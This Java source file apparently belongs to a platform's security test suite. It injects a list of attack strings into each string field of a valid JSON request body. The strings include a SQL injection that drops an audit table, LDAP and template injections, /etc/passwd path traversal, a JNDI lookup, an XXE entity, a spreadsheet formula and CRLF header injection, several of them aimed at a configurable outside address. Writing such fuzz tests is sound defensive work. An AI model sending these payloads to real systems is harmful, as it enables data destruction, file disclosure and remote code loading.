package cn.zwfw.platform.testing.attack;

import cn.zwfw.platform.testing.HttpCaller;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import tools.jackson.core.JsonPointer;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * A right body with a text in one of its places that is code elsewhere: two such texts in each
 * place, others in the next.
 *
 * @param address to which nobody should connect
 */
record TextTricks(String address) {

    /** What the templates among the texts would come to. */
    static final String WORKED_OUT = "zwfw49zwfw";

    private List<String> texts() {
        return List.of(
                "zwfw'; drop table audit_entry; --",
                "zwfw*)(uid=*))(|(uid=*",
                "zwfw${7*7}zwfw",
                "zwfw#{7*7}zwfw",
                "zwfw{{7*7}}zwfw",
                "../../../../../etc/passwd",
                "file:///etc/passwd",
                address,
                "${jndi:" + address.replace("http", "ldap") + "}",
                "<img src=\"" + address + "\"/>",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"" + address + "\">]><a>&b;</a>",
                "=HYPERLINK(\"" + address + "\")",
                "zwfw\r\nX-Injected: yes",
                "\u202Ezwfw\uFEFF\uD83D\uDE00");
    }

    Stream<String> bodies(JsonNode right) {
        var places = places(right, JsonPointer.empty());
        var texts = texts();
        return IntStream.range(0, places.size())
                .boxed()
                .flatMap(at ->
                        Stream.of(at, at + texts.size() / 2)
                                .map(number -> texts.get(number % texts.size()))
                                .map(text -> with(right, places.get(at), text)));
    }

    private static List<JsonPointer> places(JsonNode node, JsonPointer here) {
        var all = new ArrayList<JsonPointer>();
        if (node.isString()) {
            all.add(here);
        }
        node.properties()
                .forEach(field ->
                        all.addAll(places(field.getValue(), here.appendProperty(field.getKey()))));
        for (int at = 0; node.isArray() && at < node.size(); at++) {
            all.addAll(places(node.get(at), here.appendIndex(at)));
        }
        return all;
    }

    private static String with(JsonNode right, JsonPointer place, String text) {
        var changed = right.deepCopy();
        switch (changed.at(place.head())) {
            case ObjectNode object -> object.put(place.last().getMatchingProperty(), text);
            case ArrayNode array ->
                    array.set(
                            place.last().getMatchingIndex(),
                            HttpCaller.JSON.getNodeFactory().stringNode(text));
            default -> throw new IllegalStateException(place + " has nothing around it");
        }
        return HttpCaller.JSON.writeValueAsString(changed);
    }
}
